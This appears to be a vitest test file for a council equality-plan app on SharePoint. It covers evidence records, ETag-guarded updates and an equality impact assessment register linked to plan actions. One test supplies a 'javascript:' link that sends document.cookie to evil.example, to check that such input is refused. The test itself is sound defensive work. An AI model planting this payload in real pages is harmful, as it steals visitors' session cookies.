/**
 * Evidence and the EqIA register against the local SharePoint (src/data/evidence, eqias, eqia-links): a link that
 * would run script on click is refused before anything is written; evidence is added once per submission and
 * changed or removed only with its ETag; EqIAs link to actions both ways, once per pair; review dates are read
 * index-first for the reminders; the action view gets evidence and EqIAs in its one request.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { devIdentity } from "../../../src/config/local-identities.ts";
import { getActionMeasures } from "../../../src/data/action-measures/index.ts";
import {
  type ActionRecord,
  addEvidence,
  createEqia,
  createSp,
  type DataError,
  DevTokenAuth,
  ensurePerson,
  getActionEqias,
  getActionEvidence,
  getEqia,
  getEqiaActions,
  getEqias,
  getEqiasDueForReview,
  getPlanActions,
  getPlanEvidence,
  linkEqia,
  MeasureInvalid,
  removeEvidence,
  type SPFI,
  unlinkEqia,
  updateEqia,
  updateEvidence,
} from "../../../src/data/index.ts";
import { writePlanTree } from "../../../src/data/plan-tree/index.ts";
import { provision } from "../../../src/data/provision.ts";
import type { Person } from "../../../src/domain/types.ts";
import { directoryOf, startTestSharePoint, type TestSharePoint } from "../../helpers/local-sharepoint.ts";

let server: TestSharePoint;
let sp: SPFI;
let me: Person;
let actions: ActionRecord[];

const audit = { title: "Equalities data audit record", link: "https://example.org/committee/2018/audit.pdf", type: "data", date: "2018-03-31" };

beforeAll(async () => {
  server = await startTestSharePoint(directoryOf(["officer@example.org"]));
  sp = createSp(server.siteUrl, DevTokenAuth(devIdentity("officer@example.org")), { retryIntervalMs: 20 });
  await provision(sp);
  me = await ensurePerson(sp, "officer@example.org");
  const w = await writePlanTree(
    sp,
    {
      title: "Evidence plan",
      period: "2017-2021",
      localCharacteristics: ["poverty"],
      roles: [
        {
          name: "Service Provider",
          objectives: [
            {
              statement: "Inclusive services",
              actions: [
                { reference: "SP-1", text: "Annual equality data audit", officerLogins: ["officer@example.org"] },
                { reference: "SP-2", text: "Include poverty in the EqIA", officerLogins: ["officer@example.org"] },
              ],
            },
          ],
        },
      ],
    },
    { importId: "ev" },
  );
  actions = (await getPlanActions(sp, w.planId)).sort((a, b) => a.reference.localeCompare(b.reference));
}, 120_000);
afterAll(async () => server?.close());

describe("evidence", () => {
  it("refuses a javascript: link (an attack on whoever clicks it) and writes nothing", async () => {
    const err = await addEvidence(sp, { action: actions[0], input: { ...audit, link: "javascript:fetch('https://evil.example/?c='+document.cookie)" }, addedBy: me, submissionKey: "x" }).catch((e) => e);
    expect(err).toBeInstanceOf(MeasureInvalid);
    expect((err as MeasureInvalid).problems.map((p) => p.field)).toEqual(["link"]);
    expect(await getActionEvidence(sp, actions[0].id)).toEqual([]);
  });

  it("is added once per submission, with who added it", async () => {
    const a = await addEvidence(sp, { action: actions[0], input: audit, addedBy: me, submissionKey: "e-1" });
    const b = await addEvidence(sp, { action: actions[0], input: audit, addedBy: me, submissionKey: "e-1" });
    expect(b.id).toBe(a.id);
    expect(a).toMatchObject({ title: audit.title, link: audit.link, type: "data", date: "2018-03-31", addedById: me.id, actionId: actions[0].id });
    expect(await getActionEvidence(sp, actions[0].id)).toHaveLength(1);
    expect(await getPlanEvidence(sp, actions[0].planId)).toHaveLength(1);
  });

  it("is changed and removed only with the ETag it was read with", async () => {
    const [e] = await getActionEvidence(sp, actions[0].id);
    await updateEvidence(sp, e, { ...audit, title: "Equalities data audit record 2017-18" });
    const stale = await removeEvidence(sp, e).catch((x) => x);
    expect((stale as DataError).reason).toBe("conflict");
    const [fresh] = await getActionEvidence(sp, actions[0].id);
    expect(fresh.title).toBe("Equalities data audit record 2017-18");
    await removeEvidence(sp, fresh);
    expect(await getActionEvidence(sp, actions[0].id)).toEqual([]);
  });
});

describe("the EqIA register", () => {
  const ctr = {
    title: "Council Tax Reduction Scheme 2024",
    assessedOn: "2023-11-01",
    characteristics: ["age", "disability", "poverty"],
    outcome: "adjust",
    summary: "Protect pensioners on low incomes.",
    publishedLink: "https://example.org/eqia/ctr-2024.pdf",
    reviewDate: "2024-11-01",
  };

  it("refuses a review before the assessment and a characteristic the plan does not consider", async () => {
    const err = await createEqia(sp, { input: { ...ctr, reviewDate: "2023-01-01" }, submissionKey: "bad" }).catch((e) => e);
    expect((err as MeasureInvalid).problems.map((p) => p.field).sort()).toEqual(["characteristics", "reviewDate"]);
    expect(await getEqias(sp)).toEqual([]);
  });

  it("links an assessment to actions both ways, once per pair", async () => {
    const eqia = await createEqia(sp, { input: ctr, localCharacteristics: ["poverty"], submissionKey: "q-1" });
    expect(eqia).toMatchObject({ title: ctr.title, characteristics: ["age", "disability", "poverty"], outcome: "adjust", reviewDate: "2024-11-01" });
    await linkEqia(sp, eqia, actions[1], "gave-rise-to");
    await linkEqia(sp, eqia, actions[0], "informs");
    const again = await linkEqia(sp, eqia, actions[0], "gave-rise-to");
    expect(again.relation).toBe("gave-rise-to");
    const fromEqia = await getEqiaActions(sp, eqia.id);
    expect(fromEqia.map((l) => [l.actionReference, l.relation])).toEqual([
      ["SP-1", "gave-rise-to"],
      ["SP-2", "gave-rise-to"],
    ]);
    const fromAction = await getActionEqias(sp, actions[1].id);
    expect(fromAction).toEqual([expect.objectContaining({ eqiaId: eqia.id, eqiaTitle: ctr.title, eqiaAssessedOn: "2023-11-01", eqiaReviewDate: "2024-11-01" })]);
    const m = await getActionMeasures(sp, actions[1].id);
    expect(m.eqias.map((l) => l.eqiaTitle)).toEqual([ctr.title]);
    await unlinkEqia(sp, fromEqia[0]);
    expect((await getEqiaActions(sp, eqia.id)).map((l) => l.actionReference)).toEqual(["SP-2"]);
  });

  it("reads the assessments due for review by a date, and changes one with its ETag", async () => {
    const later = await createEqia(sp, { input: { ...ctr, title: "Housing allocations", reviewDate: "2026-05-01" }, localCharacteristics: ["poverty"], submissionKey: "q-2" });
    expect((await getEqiasDueForReview(sp, "2024-12-31")).map((e) => e.title)).toEqual([ctr.title]);
    await updateEqia(sp, later, { ...ctr, title: "Housing allocations", reviewDate: "2024-06-01" }, { localCharacteristics: ["poverty"] });
    expect((await getEqiasDueForReview(sp, "2024-12-31")).map((e) => e.title).sort()).toEqual([ctr.title, "Housing allocations"].sort());
    expect((await getEqia(sp, later.id)).reviewDate).toBe("2024-06-01");
    const stale = await updateEqia(sp, later, { ...ctr, reviewDate: "2025-01-01" }, { localCharacteristics: ["poverty"] }).catch((e) => e);
    expect((stale as DataError).reason).toBe("conflict");
  });
});
